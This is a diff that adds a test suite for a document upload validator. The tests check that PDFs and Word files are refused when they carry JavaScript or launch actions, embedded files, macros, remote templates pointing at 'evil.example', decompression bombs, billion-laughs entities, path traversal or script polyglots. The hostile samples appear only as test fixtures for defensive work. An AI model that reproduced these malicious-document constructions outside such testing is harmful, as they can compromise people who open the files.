@@ -1,0 +1,134 @@
+import { strToU8, zipSync, zlibSync, type Zippable } from 'fflate';
+import { describe, expect, test } from 'vitest';
+import { documentProblem } from './document-check.ts';
+import { documentKind, MOST_DOCUMENT_BYTES, PDF_MIME, WORD_MIME } from './document-kind.ts';
+
+const TYPES =
+  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
+const BODY = '<w:document><w:body><w:p><w:r><w:t>Lock out first.</w:t></w:r></w:p></w:body></w:document>';
+const word = (more: Zippable = {}, types = TYPES, body = BODY): Uint8Array =>
+  zipSync({ '[Content_Types].xml': strToU8(types), 'word/document.xml': strToU8(body), ...more });
+const rels = (type: string, target: string) =>
+  strToU8(
+    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  );
+const latin = (text: string) => Uint8Array.from(text, letter => letter.charCodeAt(0));
+const pdf = (objects: string, end = '%%EOF\n') =>
+  latin(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${objects}\ntrailer\n<< /Root 1 0 R >>\n${end}`);
+const packed = (objects: string, dictionary = '/Type /ObjStm /Filter /FlateDecode /N 1 /First 4') => {
+  const body = Array.from(zlibSync(strToU8(objects)), each => String.fromCharCode(each)).join('');
+  return pdf(`5 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj`);
+};
+/** The same ZIP, whose last entry says that it unpacks to that many bytes. */
+function announcing(zip: Uint8Array, size: number): Uint8Array {
+  const bytes = zip.slice();
+  const view = new DataView(bytes.buffer);
+  let last = 0;
+  for (let at = 0; at + 4 < bytes.length; at += 1) if (view.getUint32(at, true) === 0x02014b50) last = at;
+  view.setUint32(last + 24, size, true);
+  return bytes;
+}
+
+describe('a PDF', () => {
+  test('is taken where it only says what to draw', async () => {
+    expect(await documentProblem(pdf(''), PDF_MIME)).toBeNull();
+    expect(await documentProblem(pdf('3 0 obj\n<< /OpenAction [4 0 R /Fit] >>\nendobj'), PDF_MIME)).toBeNull();
+    expect(await documentProblem(packed('7 0 << /Type /Page >>'), PDF_MIME)).toBeNull();
+    // What a stream draws is no name.
+    const drawn = '4 0 obj\n<< /Length 40 >>\nstream\n(/JavaScript /Launch ) Tj\nendstream\nendobj';
+    expect(await documentProblem(pdf(drawn), PDF_MIME)).toBeNull();
+  });
+
+  test('that carries a program, starts something or holds files is refused, also where the name is spelled in numbers', async () => {
+    for (const action of [
+      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
+      '/AA << /O << /S /Launch /F (cmd.exe) >> >>',
+      '/S /J#61va#53cript',
+      '/Names << /EmbeddedFiles 9 0 R >>',
+      '/AcroForm << /XFA 3 0 R >>',
+      '/A << /S /SubmitForm >>',
+    ])
+      expect(await documentProblem(pdf(`3 0 obj\n<< ${action} >>\nendobj`), PDF_MIME)).toBe('active');
+  });
+
+  test('that packs its program into a stream of objects is refused; so is one that packs them in an unusual way', async () => {
+    expect(await documentProblem(packed('7 0 << /S /JavaScript /JS (x) >>'), PDF_MIME)).toBe('active');
+    const odd = packed('7 0 << /S /JS >>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]');
+    expect(await documentProblem(odd, PDF_MIME)).toBe('damaged');
+  });
+
+  test('that is closed with a password is refused', async () => {
+    expect(await documentProblem(pdf('', '<< /Encrypt 8 0 R >>\n%%EOF'), PDF_MIME)).toBe('encrypted');
+  });
+
+  test('whose objects unpack to more than a phone holds is refused', async () => {
+    expect(await documentProblem(packed(' '.repeat(70_000_000)), PDF_MIME)).toBe('bomb');
+  });
+
+  test('that is something else besides, or breaks off, is refused', async () => {
+    const both = new Uint8Array([...pdf(''), ...word()]);
+    expect(await documentProblem(both, PDF_MIME)).toBe('damaged');
+    expect(await documentProblem(pdf('<html><script>alert(1)</script>'), PDF_MIME)).toBe('damaged');
+    expect(await documentProblem(pdf('', ''), PDF_MIME)).toBe('damaged');
+    expect(await documentProblem(latin('<script>alert(1)</script>%PDF-1.7 %%EOF'), PDF_MIME)).toBe('unknown');
+  });
+});
+
+describe('a Word file', () => {
+  test('is taken with links and pictures', async () => {
+    expect(await documentProblem(word(), WORD_MIME)).toBeNull();
+    const linked = { 'word/_rels/document.xml.rels': rels('hyperlink', 'https://example.com') };
+    expect(await documentProblem(word(linked), WORD_MIME)).toBeNull();
+  });
+
+  test('of before 2007, or closed with a password, is refused', async () => {
+    const old = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
+    expect(documentKind(old)).toBe('old_word');
+    expect(await documentProblem(old, WORD_MIME)).toBe('old_word');
+  });
+
+  test('with macros is refused, by its parts and by what it says it is', async () => {
+    expect(await documentProblem(word({ 'word/vbaProject.bin': strToU8('x') }), WORD_MIME)).toBe('macros');
+    expect(await documentProblem(word({ 'word/activeX/activeX1.bin': strToU8('x') }), WORD_MIME)).toBe('macros');
+    const enabled = TYPES.replace(
+      'vnd.openxmlformats-officedocument.wordprocessingml.document',
+      'vnd.ms-word.document.macroEnabled',
+    );
+    expect(await documentProblem(word({}, enabled), WORD_MIME)).toBe('macros');
+  });
+
+  test('that fetches a template or an object from elsewhere is refused', async () => {
+    for (const type of ['attachedTemplate', 'oleObject', 'frame', 'subDocument'])
+      expect(
+        await documentProblem(
+          word({ 'word/_rels/settings.xml.rels': rels(type, 'https://evil.example/x.dotm') }),
+          WORD_MIME,
+        ),
+      ).toBe('active');
+  });
+
+  test('that unpacks to far more than it is, says less than it is, or names entities is refused', async () => {
+    const zeros = new Uint8Array(60_000_000);
+    expect(await documentProblem(word({ 'word/media/a.bin': zeros }), WORD_MIME)).toBe('bomb');
+    const lying = announcing(word({ 'word/media/a.bin': zeros }), 1000);
+    expect(await documentProblem(lying, WORD_MIME)).toBe('bomb');
+    const laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>';
+    expect(await documentProblem(word({}, TYPES, laughs), WORD_MIME)).toBe('bomb');
+    const many = Object.fromEntries(Array.from({ length: 2100 }, (_, n) => [`word/${n}.xml`, strToU8('')]));
+    expect(await documentProblem(word(many), WORD_MIME)).toBe('damaged');
+  });
+
+  test('that is another archive, leads out of itself or goes on behind its end is refused', async () => {
+    expect(await documentProblem(zipSync({ 'a.txt': strToU8('a') }), WORD_MIME)).toBe('unknown');
+    expect(await documentProblem(word({ '../../evil.xml': strToU8('<a/>') }), WORD_MIME)).toBe('damaged');
+    expect(await documentProblem(new Uint8Array([...word(), ...strToU8('<script>')]), WORD_MIME)).toBe('damaged');
+    expect(await documentProblem(word().subarray(0, 200), WORD_MIME)).toBe('damaged');
+  });
+});
+
+test('a type that is announced and not the one inside, an empty file and one that is too large are refused', async () => {
+  expect(await documentProblem(word(), PDF_MIME)).toBe('unknown');
+  expect(await documentProblem(new Uint8Array(0), PDF_MIME)).toBe('empty');
+  expect(await documentProblem(new Uint8Array(MOST_DOCUMENT_BYTES + 1), PDF_MIME)).toBe('too_large');
+  expect(await documentProblem(strToU8('{\\rtf1 hello}'), WORD_MIME)).toBe('unknown');
+});
